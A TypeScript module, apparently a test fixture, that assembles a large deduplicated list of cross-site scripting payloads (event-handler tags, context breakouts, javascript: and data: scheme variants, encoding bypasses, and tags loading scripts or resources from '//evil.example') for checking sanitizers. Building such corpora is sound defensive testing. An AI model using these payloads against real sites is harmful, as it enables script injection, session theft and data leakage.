/** Runs where a payload succeeds; short, since tags and titles are. */
const RUN = 'ran()'
const EVIL = '//evil.example'

/** Elements that run a handler of their own accord, with an attribute that makes them. */
const eager = [
  '<img src=x onerror=RUN>',
  '<img src=x onerror="RUN"//',
  '<IMG SRC=x ONERROR=RUN>',
  '<img/src=x/onerror=RUN>',
  '<img src=x onerror=&#114;an()>',
  '<img src=x onerror\n=RUN>',
  '<image src=x onerror=RUN>',
  '<svg onload=RUN>',
  '<svg/onload=RUN//',
  '<svg><script>RUN</script></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><set onbegin=RUN attributeName=x>',
  '<svg><image href=x onerror=RUN>',
  '<svg><style><img src=x onerror=RUN></style>',
  '<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>',
  '<math><mtext><img src=x onerror=RUN></mtext></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=RUN>',
  '<body onload=RUN>',
  '<body onpageshow=RUN>',
  '<iframe onload=RUN>',
  '<iframe srcdoc="<script>parent.ran()</script>">',
  '<iframe src=javascript:parent.ran()>',
  '<object data=javascript:RUN>',
  '<embed src=javascript:RUN>',
  '<video src=x onerror=RUN>',
  '<video><source onerror=RUN>',
  '<audio src=x onerror=RUN>',
  '<input onfocus=RUN autofocus>',
  '<select onfocus=RUN autofocus>',
  '<textarea onfocus=RUN autofocus>',
  '<button onfocus=RUN autofocus>x</button>',
  '<a href=# onfocus=RUN autofocus>x</a>',
  '<details open ontoggle=RUN>',
  '<marquee onstart=RUN>x</marquee>',
  '<style onload=RUN></style>',
  '<link rel=stylesheet href=x onerror=RUN>',
  '<script>RUN</script>',
  '<script src=EVIL/s.js></script>',
  '<ScRiPt>RUN</sCrIpT>',
  '<script>RUN//',
  '<<script>RUN</script>',
  '<scr<script>ipt>RUN</script>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<template><img src=x onerror=RUN></template>',
  '<xss style=animation-name:a onanimationstart=RUN>',
  '<p tabindex=1 onfocus=RUN autofocus>x</p>',
  '<div onpointerenter=RUN style=position:fixed;inset:0>x</div>',
  '<form><button formaction=javascript:RUN>x</button></form>',
  '<isindex type=image src=1 onerror=RUN>',
  '<base href=javascript:/a/><a href=//RUN>x</a>',
]

/** Ways out of where a value may stand: an attribute, an element, a script, a comment, a template. */
const breakouts = [
  '">TAG',
  "'>TAG",
  '`>TAG',
  '</p>TAG',
  '</textarea>TAG',
  '</title>TAG',
  '</style>TAG',
  '</script>TAG',
  '-->TAG',
  ']]>TAG',
  '" onmouseover=RUN x="',
  "' onfocus=RUN autofocus x='",
  '\\"-RUN//',
  "'-RUN-'",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is a payload
  '${RUN}',
  '{{RUN}}',
  '{{constructor.constructor("ran()")()}}',
  '<%= RUN %>',
  '\u2028RUN\u2029',
  '</script><script>RUN</script>',
  '{"__html":"<img src=x onerror=RUN>"}',
  '&lt;img src=x onerror=RUN&gt;',
  '%3Cimg%20src%3Dx%20onerror%3DRUN%3E',
  '\\u003cimg src=x onerror=RUN\\u003e',
  '\uFF1Cscript\uFF1ERUN\uFF1C/script\uFF1E',
]

const schemes = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  ' javascript:RUN',
  'java\tscript:RUN',
  'java%0ascript:RUN',
  '\x01javascript:RUN',
  'javascript&colon;RUN',
  '&#106;avascript:RUN',
  '&#x6A;avascript:RUN',
  'javascript://%0aRUN',
  'vbscript:RUN',
  'data:text/html,<script>RUN</script>',
  'data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=RUN>',
  'blob:RUN',
  'file:///etc/passwd',
  'feed:javascript:RUN',
  'view-source:javascript:RUN',
]

/** Markdown that would make a link, an image or HTML of an address. */
const links = ['[x](URL)', '[x](<URL>)', '![x](URL)', '<URL>', '[x]: URL\n[x]', '[![x](URL)](URL)']

/** What a page would fetch by itself. */
const fetching = [
  '![x](EVIL/a.png)',
  '![x](https:EVIL/b.png "t")',
  '<img src=EVIL/c.png>',
  '<img srcset="EVIL/d.png 1x">',
  '<picture><source srcset=EVIL/e.png><img></picture>',
  '<link rel=stylesheet href=EVIL/f.css>',
  '<link rel=prefetch href=EVIL/g>',
  '<link rel=dns-prefetch href=EVIL>',
  '<style>@import "EVIL/h.css"</style>',
  '<div style="background:url(EVIL/i.png)">x</div>',
  '<iframe src=EVIL/j></iframe>',
  '<object data=EVIL/k></object>',
  '<embed src=EVIL/l>',
  '<video poster=EVIL/m.png src=EVIL/n.mp4>',
  '<audio src=EVIL/o.mp3 autoplay>',
  '<input type=image src=EVIL/p.png>',
  '<meta http-equiv=refresh content="0;url=https:EVIL/q">',
  '<form action=EVIL/r><input autofocus></form>',
  '<svg><use href=EVIL/s.svg#x></svg>',
  '<body background=EVIL/t.png>',
  '<table background=EVIL/u.png>',
  '<script src=https:EVIL/v.js></script>',
  '<base href=https:EVIL/>',
  '<track src=EVIL/w.vtt>',
  '<a ping=EVIL/x href=#>x</a>',
]

const templates = [
  ...eager,
  ...breakouts.flatMap((way) =>
    way.includes('TAG')
      ? [way.replace('TAG', '<img src=x onerror=RUN>'), way.replace('TAG', '<svg onload=RUN>')]
      : [way],
  ),
  ...schemes.flatMap((url, index) =>
    links.slice(0, index < 3 ? links.length : 5).map((link) => link.replaceAll('URL', url)),
  ),
  ...fetching,
]

/** Texts that run a script, open a dialog or fetch from elsewhere wherever they are taken for more than text. */
export const xssPayloads: readonly string[] = [
  ...new Set(templates.map((text) => text.replaceAll('RUN', RUN).replaceAll('EVIL', EVIL))),
]

/** The payloads joined into texts of at most so many characters, each in one of them whole. */
export function packed(most: number): string[] {
  const texts: string[] = []
  for (const payload of xssPayloads.filter((one) => one.length <= most)) {
    const last = texts.at(-1)
    const joined = `${last}\n\n${payload}`
    if (last !== undefined && joined.length <= most) texts[texts.length - 1] = joined
    else texts.push(payload)
  }
  return texts
}
